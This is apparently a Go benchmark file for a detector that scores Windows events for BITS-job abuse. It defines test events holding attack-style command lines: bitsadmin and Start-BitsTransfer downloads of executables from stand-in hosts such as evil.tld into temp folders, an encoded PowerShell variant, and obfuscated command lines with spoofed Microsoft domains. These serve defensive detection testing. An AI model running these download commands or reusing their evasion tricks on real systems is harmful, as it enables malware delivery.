package hardened

import (
	"fmt"
	"strings"
	"testing"

	"bitsscore/src/detect"
)

func toInputs(d detect.Detector, e event) []detect.Values {
	in := make([]detect.Values, len(d.Inputs()))
	for i, name := range d.Inputs() {
		for _, v := range e[name] {
			in[i] = append(in[i], []byte(v))
		}
	}
	return in
}

// BenchmarkScore scores a mix of attacks and ordinary events; steady state
// must not allocate.
func BenchmarkScore(b *testing.B) {
	d := New(nil)
	var events [][]detect.Values
	for _, e := range []event{
		bitsadmin(`/transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\bitsadmin1_flag.ps1`),
		powershell(`-NoP -enc ` + encode(`Start-BitsTransfer -Source https://evil.tld/a.exe -Destination $env:TEMP\a.exe`)),
		scriptBlock(`Start-BitsTransfer -Priority foreground -Source https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md -Destination C:\Users\bits.ps1`),
		transfer(`https://releases.ubuntu.com/20.04.3/ubuntu-20.04.3-desktop-amd64.iso`),
		jobCreated(`C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`),
		serviceChild(cmdExe, `cmd.exe /c calc.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS`),
		sysmon1(`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234,5678 /prefetch:1`),
	} {
		events = append(events, toInputs(d, e))
	}
	out := make([]detect.Values, len(d.Outputs()))
	for _, in := range events { // warm the buffers
		d.Score(in, out)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := range b.N {
		d.Score(events[i%len(events)], out)
	}
}

// BenchmarkScoreLength scores adversarial command lines of growing length
// (many URLs, quotes, switches and encoded payloads): ns/op must grow
// linearly, which the reported MB/s staying flat shows.
func BenchmarkScoreLength(b *testing.B) {
	unit := `/transfer j h"tt"ps://a.microsoft.com.evil.tld/x?.microsoft.com C:\Users\Public\a"b".exe -Source http://1.2.3.4/a.exe -Destination $env:TEMP\x.exe `
	for _, n := range []int{1 << 10, 1 << 14, 1 << 18} {
		cmd := "bitsadmin " + strings.Repeat(unit, n/len(unit)+1)[:n]
		for _, c := range []struct {
			name string
			e    event
		}{
			{"bitsadmin", bitsadmin(cmd)},
			{"script", scriptBlock("Start-BitsTransfer " + cmd)},
			{"encoded", powershell("-enc " + encode("Start-BitsTransfer "+cmd[:n/2]))},
		} {
			b.Run(fmt.Sprintf("%s/%dKiB", c.name, n>>10), func(b *testing.B) {
				d := New(nil)
				in := toInputs(d, c.e)
				out := make([]detect.Values, len(d.Outputs()))
				d.Score(in, out)
				b.SetBytes(int64(n))
				b.ReportAllocs()
				b.ResetTimer()
				for range b.N {
					d.Score(in, out)
				}
			})
		}
	}
}
